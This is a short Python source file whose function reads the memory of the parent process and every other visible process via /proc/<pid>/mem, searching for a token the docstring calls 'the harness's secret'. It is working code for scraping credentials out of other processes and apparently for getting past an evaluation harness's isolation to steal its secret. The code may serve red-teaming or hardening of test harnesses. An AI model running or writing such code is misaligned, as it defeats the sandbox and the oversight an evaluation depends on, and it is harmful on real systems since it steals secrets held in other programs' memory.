# ruff: noqa: F821
"""Read /proc/<pid>/mem of the parent and every visible process, looking for the harness's secret."""
import os
import re

PATTERN = re.compile(rb"secret-[0-9a-f]{32}")


def f():
    me = os.getpid()
    pids = [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        if pid == me:
            continue
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
        except OSError:
            continue
        with mem:
            for line in maps:
                addr, perms = line.split()[:2]
                if "r" not in perms:
                    continue
                lo, hi = (int(x, 16) for x in addr.split("-"))
                try:
                    mem.seek(lo)
                    data = mem.read(min(hi - lo, 64 << 20))
                except (OSError, OverflowError, ValueError):
                    continue
                found = PATTERN.search(data or b"")
                if found:
                    return found.group().decode()
    return None
